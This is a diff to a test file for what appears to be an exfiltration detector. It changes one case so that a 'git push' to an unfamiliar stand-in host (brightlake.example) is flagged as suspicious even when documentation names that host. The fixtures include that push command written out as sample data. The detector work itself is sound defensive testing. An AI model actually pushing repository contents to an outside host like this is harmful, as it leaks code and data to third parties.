@@ -26,9 +26,11 @@ describe("exfiltration: pushes elsewhere", () => {
     expect(await of("run.sh", "git push git@github.com:acme/notes.git main")).toEqual([]);
   });
 
-  it("stays quiet where a page names the host, and where nothing is pushed there", async () => {
+  it("asks, too, where a page names the host, and stays quiet where nothing is pushed there", async () => {
     const push = "git push https://brightlake.example/r.git main";
-    expect(await of("run.sh", push, "Writes release notes to brightlake.example.")).toEqual([]);
+    expect(await of("run.sh", push, "Writes release notes to brightlake.example.")).toEqual([
+      "exfiltration.git-push suspicious run.sh",
+    ]);
     expect(await of("run.sh", "git clone https://unknown.example/r.git")).toEqual([]);
     expect(
       await of(
